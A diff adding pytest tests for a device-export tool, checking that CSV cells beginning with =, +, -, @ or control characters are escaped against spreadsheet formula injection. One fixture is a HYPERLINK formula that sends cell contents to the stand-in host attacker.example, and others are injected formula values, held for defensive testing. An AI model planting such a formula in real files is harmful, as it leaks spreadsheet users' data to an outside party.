@@ -7,17 +7,19 @@ import base64
 import csv
 import io
 import json
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import ec
 
-from fleetctl.device_export import CSV_COLUMNS, LEFT_OUT
+from fleetctl.device_export import CSV_COLUMNS, LEFT_OUT, as_text_cell
 from fleetctl.errors import ExitCode
 from fleetctl.manifest import HEADER
 from hook.contract import Attr, DeviceStatus
-from tests.support import TABLE_NAME, Fleet, rows
+from tests.support import TABLE_NAME, Fleet, hook_event, rows, valid_parameters
 
 pytestmark = pytest.mark.usefixtures("no_outputs_from_the_environment")
 
@@ -91,6 +93,60 @@ def test_jsonl_holds_each_device_item_without_the_index_keys(fleet: Fleet) -> No
     }
     assert all(Attr.STATUS_SHARD not in item and Attr.TYPE_SHARD not in item for item in exported)
     assert list(exported[0])[:2] == [Attr.SERIAL_NUMBER, Attr.STATUS]
+
+
+FORMULA_REASON = '=HYPERLINK("https://attacker.example/?"&B2&C2,"Details")'
+"""A rotation failure reason stored before reasons were narrowed (``hook/rotation_requests.py``)."""
+
+
+def test_csv_cells_a_device_chose_never_open_as_formulas(
+    fleet: Fleet, invoke: Callable[[Any], dict[str, Any]]
+) -> None:
+    # Manufacturer and Location may hold = and @ (thing attribute values allow them), and - starts a
+    # genuine location as well as a formula.
+    for serial, manufacturer, location in (("HS-1", "@A1", "=B2"), ("HS-2", "AcmeIoT", "-5th-floor")):
+        parameters = valid_parameters(
+            SerialNumber=serial, DeviceType="humidity-sensor", Manufacturer=manufacturer, Location=location
+        )
+        assert invoke(hook_event(parameters, certificate=serial))["allowProvisioning"] is True
+    fleet.dynamodb.update_item(
+        TableName=TABLE_NAME,
+        Key={Attr.SERIAL_NUMBER: {"S": "HS-1"}},
+        UpdateExpression="SET #reason = :reason",
+        ExpressionAttributeNames={"#reason": Attr.ROTATION_FAILURE_REASON},
+        ExpressionAttributeValues={":reason": {"S": FORMULA_REASON}},
+    )
+
+    csv_rows = list(csv.DictReader(io.StringIO(fleet.run("export").stdout)))
+    jsonl = [json.loads(line) for line in fleet.run("export", "--format", "jsonl").stdout.splitlines()]
+
+    hostile, genuine = sorted(csv_rows, key=lambda row: row[Attr.SERIAL_NUMBER])
+    assert (hostile[Attr.MANUFACTURER], hostile[Attr.LOCATION]) == ("'@A1", "'=B2")
+    assert hostile[Attr.ROTATION_FAILURE_REASON] == "'" + FORMULA_REASON
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv_rows for cell in row.values())
+    # Documented round trip: one leading ' dropped where a trigger follows; JSON lines carry values as
+    # stored (no JSON reader evaluates a string).
+    assert genuine[Attr.LOCATION] == "'-5th-floor"
+    assert {item[Attr.SERIAL_NUMBER]: item[Attr.LOCATION] for item in jsonl} == {
+        "HS-1": "=B2",
+        "HS-2": "-5th-floor",
+    }
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("+1", "'+1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("\nx", "'\nx"),
+        ("x=1", "x=1"),
+        ("'=1", "'=1"),
+        ("", ""),
+    ],
+)
+def test_only_a_cell_starting_with_a_formula_trigger_gets_the_text_marker(value: str, cell: str) -> None:
+    assert as_text_cell(value) == cell
 
 
 def test_a_selection_is_read_through_the_indexes_and_everything_by_a_scan(
